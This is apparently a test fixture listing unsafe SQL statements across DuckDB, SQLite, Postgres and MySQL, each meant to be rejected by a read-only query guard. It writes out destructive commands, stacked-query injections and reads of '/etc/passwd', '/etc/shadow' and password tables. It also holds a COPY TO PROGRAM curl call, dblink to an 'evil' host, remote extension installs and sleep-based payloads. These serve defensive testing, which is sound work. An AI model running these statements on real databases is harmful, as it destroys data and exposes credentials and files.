-- Hand-written unsafe statements. Each entry starts with a line `@dialects`
-- (all, or a comma list of duckdb, sqlite, postgres, mysql) and runs until
-- the next such line. Every one must be rejected by the guard.
@all
DROP TABLE orders
@all
drop table orders
@all
DrOp    TaBlE
  orders
@all
DELETE FROM orders
@all
delete from orders where 1=1
@all
UPDATE orders SET total_amount = 0
@all
INSERT INTO orders VALUES (1)
@all
INSERT INTO orders SELECT * FROM orders
@all
CREATE TABLE x AS SELECT * FROM orders
@all
CREATE VIEW v AS SELECT 1
@all
ALTER TABLE orders ADD COLUMN x INT
@all
TRUNCATE TABLE orders
@all
SELECT 1; DROP TABLE orders
@all
SELECT 1; DELETE FROM orders
@all
SELECT 1;DELETE FROM orders;
@all
SELECT * FROM orders; SELECT * FROM customers
@all
/* harmless */ DELETE FROM orders
@all
-- a comment
DELETE FROM orders
@all
SELECT 1 /* ; */ ; DROP TABLE orders
@all
SELECT '; DROP TABLE orders --' ; DROP TABLE orders
@all
SELECT 1 -- ;
; UPDATE orders SET x = 1
@all
BEGIN
@all
BEGIN; DELETE FROM orders; COMMIT
@all
COMMIT
@all
ROLLBACK
@all
START TRANSACTION
@all
SAVEPOINT s1
@all
SELECT * FROM orders FOR UPDATE
@postgres,mysql
SELECT * FROM orders FOR SHARE
@postgres
SELECT * FROM orders FOR UPDATE NOWAIT
@postgres
SELECT * FROM orders FOR NO KEY UPDATE
@postgres
SELECT * FROM orders FOR UPDATE SKIP LOCKED
@mysql
SELECT * FROM orders LOCK IN SHARE MODE
@all
SELECT * INTO backup FROM orders
@postgres
SELECT * INTO TEMP backup FROM orders
@postgres
SELECT * INTO UNLOGGED backup FROM orders
@mysql
SELECT * FROM orders INTO OUTFILE '/tmp/x.txt'
@mysql
SELECT * INTO OUTFILE '/tmp/x.txt' FROM orders
@mysql
SELECT * FROM orders INTO DUMPFILE '/tmp/x.bin'
@mysql
SELECT id INTO @v FROM orders LIMIT 1
@postgres
WITH d AS (DELETE FROM orders RETURNING *) SELECT * FROM d
@postgres
WITH u AS (UPDATE orders SET total_amount = 0 RETURNING *) SELECT count(*) FROM u
@postgres
WITH i AS (INSERT INTO orders VALUES (1) RETURNING *) SELECT * FROM i
@postgres
WITH a AS (SELECT 1), d AS (DELETE FROM orders RETURNING id) SELECT * FROM a
@postgres
WITH RECURSIVE r AS (SELECT 1), d AS (DELETE FROM orders RETURNING 1) SELECT * FROM r
@postgres
SELECT * FROM (WITH d AS (DELETE FROM orders RETURNING *) SELECT * FROM d) s
@postgres
SELECT (WITH d AS (DELETE FROM orders RETURNING id) SELECT max(id) FROM d)
@postgres
SELECT * FROM orders WHERE id IN (WITH d AS (DELETE FROM orders RETURNING id) SELECT id FROM d)
@postgres
WITH m AS (MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE RETURNING *) SELECT * FROM m
@all
SET search_path = evil
@all
SET x = 1
@postgres
SET default_transaction_read_only = off
@postgres
SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE
@postgres
RESET ALL
@mysql
SET SESSION TRANSACTION READ WRITE
@mysql
SET @a = 1
@mysql
SET GLOBAL max_connections = 1
@duckdb
SET enable_external_access = true
@duckdb
SET access_mode = 'READ_WRITE'
@duckdb
RESET enable_external_access
@sqlite,duckdb
PRAGMA query_only = 0
@sqlite
PRAGMA writable_schema = 1
@sqlite,duckdb
PRAGMA table_info('orders')
@duckdb
PRAGMA enable_profiling
@sqlite,duckdb
ATTACH 'other.db' AS o
@sqlite,duckdb
ATTACH DATABASE '/tmp/evil.db' AS evil
@sqlite,duckdb
DETACH DATABASE o
@duckdb
ATTACH 'https://example.com/x.duckdb' AS remote
@duckdb,postgres
COPY orders TO '/tmp/orders.csv'
@duckdb,postgres
COPY orders FROM '/tmp/orders.csv'
@postgres
COPY (SELECT * FROM orders) TO PROGRAM 'curl http://x'
@postgres
COPY orders TO STDOUT
@duckdb
EXPORT DATABASE '/tmp/dump'
@duckdb
IMPORT DATABASE '/tmp/dump'
@duckdb
INSTALL httpfs
@duckdb
LOAD httpfs
@duckdb
INSTALL 'https://evil.example/ext.duckdb_extension'
@duckdb
FORCE INSTALL httpfs
@postgres
LOAD 'auto_explain'
@all
CALL do_something()
@mysql
CALL proc(1)
@postgres
DO $$ BEGIN PERFORM pg_sleep(1); END $$
@all
EXECUTE stmt
@all
PREPARE p AS SELECT 1
@postgres
DEALLOCATE ALL
@postgres
EXPLAIN ANALYZE SELECT * FROM orders
@postgres
EXPLAIN (ANALYZE) DELETE FROM orders
@mysql
EXPLAIN ANALYZE SELECT * FROM orders
@duckdb
EXPLAIN ANALYZE SELECT 1
@all
GRANT ALL ON orders TO public
@all
REVOKE ALL ON orders FROM public
@postgres
CREATE EXTENSION dblink
@postgres
CREATE FUNCTION f() RETURNS int AS 'select 1' LANGUAGE sql
@postgres
VACUUM orders
@postgres,duckdb,sqlite
ANALYZE orders
@sqlite
VACUUM
@sqlite
VACUUM INTO '/tmp/copy.db'
@sqlite,duckdb
REINDEX orders
@mysql
LOCK TABLES orders READ
@mysql
UNLOCK TABLES
@mysql
FLUSH TABLES
@mysql
KILL 1
@mysql
LOAD DATA INFILE '/etc/passwd' INTO TABLE t
@mysql
LOAD DATA LOCAL INFILE '/etc/passwd' INTO TABLE t
@mysql
HANDLER orders OPEN
@mysql
DO SLEEP(10)
@mysql
REPLACE INTO orders VALUES (1)
@mysql
RENAME TABLE orders TO o2
@postgres
LISTEN ch
@postgres
NOTIFY ch
@postgres
DISCARD ALL
@postgres
REFRESH MATERIALIZED VIEW mv
@postgres
CLUSTER orders
@postgres
COMMENT ON TABLE orders IS 'x'
@postgres
SECURITY LABEL ON TABLE orders IS 'x'
@duckdb
CHECKPOINT
@duckdb
USE other
@mysql
USE mysql
@duckdb
DESCRIBE orders
@duckdb
SUMMARIZE orders
@duckdb
SHOW TABLES
@mysql
SHOW GRANTS
@postgres
SHOW ALL
@duckdb
SELECT * FROM 'orders.csv'
@duckdb
SELECT * FROM '/etc/passwd'
@duckdb
SELECT * FROM "data.parquet"
@duckdb
SELECT * FROM 'https://example.com/data.csv'
@duckdb
SELECT * FROM 's3://bucket/key.parquet'
@duckdb
SELECT * FROM '*.json'
@duckdb
SELECT * FROM orders o JOIN 'secrets.csv' s ON o.id = s.id
@duckdb
SELECT * FROM (SELECT * FROM 'x.csv') t
@duckdb
SELECT (SELECT count(*) FROM 'x.csv')
@duckdb
WITH f AS (SELECT * FROM 'x.csv') SELECT * FROM f
@duckdb
FROM 'x.csv'
@duckdb
SELECT * FROM read_csv('x.csv')
@duckdb
SELECT * FROM READ_CSV_AUTO('/etc/passwd')
@duckdb
SELECT * FROM read_parquet('s3://b/k')
@duckdb
SELECT * FROM read_json('x.json')
@duckdb
SELECT * FROM read_json_auto('x.json')
@duckdb
SELECT * FROM read_text('/etc/passwd')
@duckdb
SELECT * FROM read_blob('/etc/shadow')
@duckdb
SELECT * FROM glob('/home/*')
@duckdb
SELECT * FROM query_table('orders')
@duckdb
SELECT * FROM query('SELECT 1')
@duckdb
SELECT * FROM sniff_csv('x.csv')
@duckdb
SELECT * FROM parquet_metadata('x.parquet')
@duckdb
SELECT * FROM duckdb_settings()
@duckdb
SELECT * FROM duckdb_secrets()
@duckdb
SELECT * FROM duckdb_tables()
@duckdb
SELECT * FROM duckdb_extensions()
@duckdb
SELECT * FROM information_schema.tables
@duckdb
SELECT * FROM pg_catalog.pg_tables
@duckdb
SELECT * FROM sqlite_master
@duckdb
SELECT * FROM system.main.orders
@duckdb
SELECT * FROM main."x.csv"
@duckdb
SELECT * FROM orders, read_csv('x.csv') r
@duckdb
SELECT * FROM orders o, LATERAL (SELECT * FROM read_csv('x.csv')) r
@sqlite
SELECT load_extension('evil.so')
@sqlite
SELECT readfile('/etc/passwd')
@sqlite
SELECT writefile('/tmp/x', 'data')
@sqlite
SELECT edit('x', 'vi')
@sqlite
SELECT fts3_tokenizer('simple')
@sqlite
SELECT * FROM sqlite_master
@sqlite
SELECT * FROM SQLITE_SCHEMA
@sqlite
SELECT * FROM sqlite_temp_master
@sqlite
SELECT * FROM temp.sqlite_master
@sqlite
SELECT * FROM pragma_table_info('orders')
@sqlite
SELECT * FROM pragma_database_list
@sqlite
SELECT * FROM fsdir('/')
@sqlite
SELECT * FROM sqlite_dbpage
@postgres
SELECT pg_read_file('/etc/passwd')
@postgres
SELECT pg_read_binary_file('/etc/passwd')
@postgres
SELECT * FROM pg_ls_dir('/')
@postgres
SELECT pg_ls_dir('.')
@postgres
SELECT lo_import('/etc/passwd')
@postgres
SELECT lo_export(1, '/tmp/x')
@postgres
SELECT * FROM dblink('host=evil', 'select 1') AS t(x int)
@postgres
SELECT dblink_exec('host=evil', 'drop table x')
@postgres
SELECT pg_sleep(100)
@postgres
SELECT pg_sleep_for('1 hour')
@postgres
SELECT set_config('default_transaction_read_only', 'off', false)
@postgres
SELECT nextval('orders_id_seq')
@postgres
SELECT setval('orders_id_seq', 1)
@postgres
SELECT current_setting('data_directory')
@postgres
SELECT pg_terminate_backend(1)
@postgres
SELECT pg_cancel_backend(1)
@postgres
SELECT pg_reload_conf()
@postgres
SELECT pg_catalog.pg_sleep(1)
@postgres
SELECT public.my_function()
@postgres
SELECT * FROM pg_shadow
@postgres
SELECT * FROM pg_authid
@postgres
SELECT usename, passwd FROM pg_catalog.pg_shadow
@postgres
SELECT * FROM pg_stat_activity
@postgres
SELECT * FROM information_schema.tables
@postgres
SELECT * FROM "pg_catalog"."pg_user"
@postgres
SELECT * FROM PG_CATALOG.PG_ROLES
@postgres
SELECT * FROM pg_settings
@postgres
SELECT * FROM pg_file_settings
@postgres
SELECT * FROM pg_hba_file_rules
@postgres
SELECT query_to_xml('delete from orders', true, true, '')
@postgres
SELECT txid_current()
@postgres
SELECT pg_advisory_lock(1)
@postgres
SELECT pg_notify('ch', 'x')
@postgres
SELECT * FROM orders WHERE id = (SELECT pg_sleep(10))::text::int
@mysql
SELECT LOAD_FILE('/etc/passwd')
@mysql
SELECT SLEEP(10)
@mysql
SELECT BENCHMARK(100000000, MD5('x'))
@mysql
SELECT GET_LOCK('x', 10)
@mysql
SELECT RELEASE_LOCK('x')
@mysql
SELECT IS_FREE_LOCK('x')
@mysql
SELECT * FROM mysql.user
@mysql
SELECT * FROM information_schema.tables
@mysql
SELECT * FROM performance_schema.threads
@mysql
SELECT * FROM sys.session
@mysql
SELECT * FROM `mysql`.`user`
@mysql
SELECT @@version
@mysql
SELECT @@global.secure_file_priv
@mysql
SELECT @a := 1
@mysql
SELECT * FROM orders WHERE (@x := id) > 0
@mysql
SELECT USER()
@mysql
SELECT DATABASE()
@mysql
SELECT VERSION()
@mysql
SELECT CURRENT_USER()
@mysql
SELECT sys_exec('id')
@mysql
SELECT * FROM orders WHERE id = 1 AND SLEEP(5)
@mysql
SELECT * FROM orders WHERE id IN (SELECT SLEEP(5))
@mysql
SELECT MASTER_POS_WAIT('x', 1)
@mysql
SELECT UUID_SHORT()
@all
SELECT my_udf(1)
@all
SELECT * FROM orders WHERE evil_func(id) > 0
@all
SELECT * FROM orders ORDER BY evil_func(id)
@all
SELECT count(*) FROM orders GROUP BY evil_func(id)
@all
SELECT * FROM orders HAVING evil_func(1) > 0
@all
SELECT CASE WHEN 1 = 1 THEN evil_func() END
@all
SELECT coalesce(NULL, evil_func())
@all
SELECT * FROM (SELECT evil_func() AS x) t
@all
SELECT * FROM orders o JOIN customers c ON evil_func(o.id) = c.id
@all
SELECT 1 UNION SELECT evil_func()
@all
SELECT * FROM orders WHERE EXISTS (SELECT evil_func())
@all
WITH x AS (SELECT evil_func()) SELECT * FROM x
@all
SELECT abs(evil_func())
@all
SELECT (SELECT (SELECT (SELECT evil_func())))
@all
select EVIL_FUNC()
@all
SELECT "evil_func"()
@all
SELECT evil_func  ( )
@all
SELECT count(*) FILTER (WHERE evil_func()) FROM orders
@all
SELECT sum(id) OVER (PARTITION BY evil_func()) FROM orders
@all
VALUES (evil_func())
@all
SELECT * FROM orders LIMIT evil_func()
@all
this is not sql at all
@all
SELECT * FROM
@duckdb,sqlite,mysql
SELECT FROM WHERE
@all
)
@all
SELECT 'unterminated
@all

@all
;
@all
; ;
@all
SELECT 1 ; ; SELECT 2
